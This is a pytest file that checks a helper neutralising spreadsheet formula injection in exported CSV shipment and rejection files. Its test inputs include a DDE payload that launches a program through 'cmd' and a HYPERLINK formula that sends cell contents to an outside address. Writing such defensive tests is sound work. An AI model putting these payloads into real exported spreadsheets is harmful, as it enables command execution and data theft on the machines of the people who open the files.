from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qafila.core.spreadsheet import inert
from qafila.shipping.files.outputs import write_rejected, write_shipments
from qafila.shipping.orders.order import Problem

FORMULAS = [
    '=HYPERLINK("https://example.org/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "＝1+1", "-", "--1", "-A1", "-1-1", "-1+1",
]  # fmt: skip


@pytest.mark.parametrize("cell", FORMULAS)
def test_what_a_spreadsheet_would_run_is_shown_to_it_as_text(cell: str) -> None:
    assert inert(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell", ["-12", "-12.50", "-1 200,50", "-1\u202f200,50", "AE-0001", "", " =1", "1=1", 5, -5, None]
)
def test_figures_and_plain_text_stay_as_they_are(cell: object) -> None:
    assert inert(cell) == cell


@given(st.text())
def test_no_text_is_lost_and_none_begins_a_formula(cell: str) -> None:
    made = str(inert(cell))
    assert made in (cell, f"'{cell}")
    assert made[:1] not in {"=", "+", "@", "\t", "\r"}
    assert not made.startswith("-") or made[1:2].isdecimal()


def test_cells_of_both_files_are_inert_and_read_back(tmp_path: Path) -> None:
    formula = FORMULAS[0]
    write_rejected(
        tmp_path / "r.csv", [Problem(1, "weight_kg", "-3.5", f"{formula} is no weight.", formula, formula)]
    )
    write_shipments(tmp_path / "s.csv", [(formula, "-3.5", -3.5)])
    with (tmp_path / "r.csv").open(encoding="utf-8", newline="") as source:
        (row,) = csv.DictReader(source)
    assert (row["order_id"], row["value"]) == (f"'{formula}", "-3.5")
    assert (row["reason"], row["remedy"]) == (f"'{formula} is no weight.", f"'{formula}")
    with (tmp_path / "s.csv").open(encoding="utf-8", newline="") as source:
        assert list(csv.reader(source))[1] == [f"'{formula}", "-3.5", "-3.5"]
